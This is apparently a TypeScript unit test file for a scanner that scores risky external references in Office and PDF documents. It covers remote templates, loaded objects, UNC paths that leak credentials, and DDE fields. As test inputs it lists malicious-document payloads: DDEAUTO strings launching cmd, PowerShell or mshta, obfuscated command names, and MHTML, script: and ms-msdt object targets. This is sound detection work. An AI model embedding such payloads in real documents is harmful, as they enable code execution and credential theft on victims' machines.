import { describe, expect, it } from "vitest"
import { referenceRoles } from "../../../../core/documents/facts/Fact.ts"
import { judgeReferences } from "../../../../core/documents/judge/JudgeReferences.ts"
import { measureCpuMillis } from "../../../support/CpuTime.ts"

const reference = (role: typeof referenceRoles[number], target: string): string =>
  judgeReferences([{ kind: "reference", role, target, where: "part" }])
    .map(({ code, penalty }) => `${short[code]!}${penalty}`).join(" ")

const short: Readonly<Record<string, string>> = {
  REMOTE_TEMPLATE: "template ",
  REMOTE_OBJECT: "object ",
  REMOTE_CONTENT: "content ",
  EXTERNAL_STREAM: "stream ",
  CREDENTIAL_LEAK_PATH: "leak "
}

/** Returns the findings by target: the web, an external share, an internal share, a neighboring file, nowhere. */
const row = (role: typeof referenceRoles[number]): ReadonlyArray<string> =>
  ["https://a.example/b", "\\\\a.example\\b", "\\\\server\\b", "b.docx", ""].map((target) => reference(role, target))

const part = ["object 45", "leak 60", "leak 16", "object 6", ""]
const contents = ["content 8", "leak 60", "leak 16", "", ""]

it("judges every role of a reference by its target", () => {
  expect(Object.fromEntries(referenceRoles.map((role) => [role, row(role)]))).toEqual({
    template: ["template 55", "leak 60", "leak 10", "template 2", ""],
    object: part,
    frame: part,
    subdocument: part,
    control: part,
    slide: part,
    script: part,
    include: ["content 25", "leak 60", "leak 16", "", ""],
    image: contents,
    data: ["content 16", "leak 20", "leak 10", "content 4", ""],
    mailmerge: ["content 8", "leak 20", "leak 10", "", ""],
    workbook: ["content 4", "leak 20", "leak 10", "content 4", ""],
    stream: ["stream 40", "leak 60", "leak 60", "stream 40", ""],
    media: contents,
    other: ["content 4", "leak 60", "leak 16", "", ""]
  })
})

describe("a part of a PDF that is stored elsewhere", () => {
  it.each([
    ["C:\\PM6\\fish.tif", "stream 4"],
    ["D:folder name.TIFF", "stream 4"],
    ["D:\\a.eps", "stream 4"],
    ["Macintosh HD:Job:cover art.tif", "stream 4"],
    ["SMPJOB:Art:Dot Pattern.tif", "stream 4"],
    ["other://a.example/b:c.tif", "stream 40"],
    ["C:\\a.jpg", "stream 40"],
    ["a.tif", "stream 40"],
    ["../pictures/a.eps", "stream 40"],
    ["/pictures/a.eps", "stream 40"],
    ["C:\\PM6\\fish.exe", "stream 40"],
    ["C:\\PM6\\fish", "stream 40"],
    ["a.tif.bin", "stream 40"],
    ["http://a.example/a.tif", "stream 40"],
    ["other:a.tif", "stream 40"],
    ["\\\\server\\a.tif", "leak 60"]
  ])("%s: %s", (target, is) => expect(reference("stream", target)).toBe(is))
})

describe("a loaded object", () => {
  it.each([
    ["https://a.example/b.docx", 45],
    ["https://a.sharepoint.com/b.docx", 6],
    ["https://d.docs.live.net/abc/b.xlsx", 6],
    ["https://sharepoint.com.evil.example/b.docx", 45],
    ["https://notsharepoint.com/b.docx", 45],
    ["https://a.sharepoint.com/b.hta", 75],
    ["https://a.sharepoint.com/b.docx!", 75],
    ["https://a.example/b.html!", 75],
    ["https://a.example/b.html! ", 75],
    ["mhtml:https://a.example/b.html!x-usc:https://a.example/b.html", 75],
    ["MHTML:https://a.example/b", 75],
    ["%6dhtml:https://a.example/b", 75],
    ["script:https://a.example/b.sct", 75],
    ["ms-msdt:/id", 75],
    ["https://a.example/b.sct?c", 75],
    ["https://a.example/b?c=.sct", 45],
    ["other:b", 45],
    ["C:\\b.docx", 6],
    ["C:\\b.exe", 45],
    ["b.hta", 45],
    ["folder.exe/b.docx", 6]
  ])("from %s: %d", (target, penalty) => expect(reference("object", target)).toBe(`object ${penalty}`))
})

describe("a field that requests data from another program", () => {
  const dde = (command: string) => judgeReferences([{ kind: "dde", command, where: "part" }])[0]!.penalty

  it.each([
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
    "DDE cmd \"/c calc\"",
    "dde \"c\"\"md\" \"/c calc\"",
    "DDEAUTO \"c^m^d\" /c",
    "DDEAUTO PowerShell -e AAAA",
    "DDEAUTO mshta http://a.example/",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "DDE msexcel/bin/..tool",
    "DDE a-msexcel..exe b",
    "DDE rundll32 a,b",
    "DDEAUTO a \"https://a.example/b\"",
    "DDEAUTO a \\\\a.example\\b",
    "DDEAUTO \"C:\\\\a\\\\tool.exe\" b"
  ])("reports %s as a shell", (command) => expect(dde(command)).toBe(75))

  it.each([
    "DDEAUTO Excel Book1.xls Sheet1!R1C1",
    "DDE Word document.doc bookmark",
    "=Reuters|IDN!'EUR=,PRICE'",
    "DDE msexcel a\\..\\b",
    "DDE msexcel.. b",
    "DDE amsexcel..b",
    "DDEAUTO cmdline topic item",
    "DDE accmd topic item"
  ])("does not report %s as a shell", (command) => expect(dde(command)).toBe(35))
})

it("judges a command of thousands of folders quickly", () => {
  const command = "msexcel\\".repeat(511)
  const facts = Array.from({ length: 1_000 }, (_, at) => ({ kind: "dde", command: command + at, where: "f" }) as const)
  // The call would take 2,500 ms if each folder were searched to the end of the command.
  expect(measureCpuMillis(() => void judgeReferences(facts))).toBeLessThan(1_000)
})
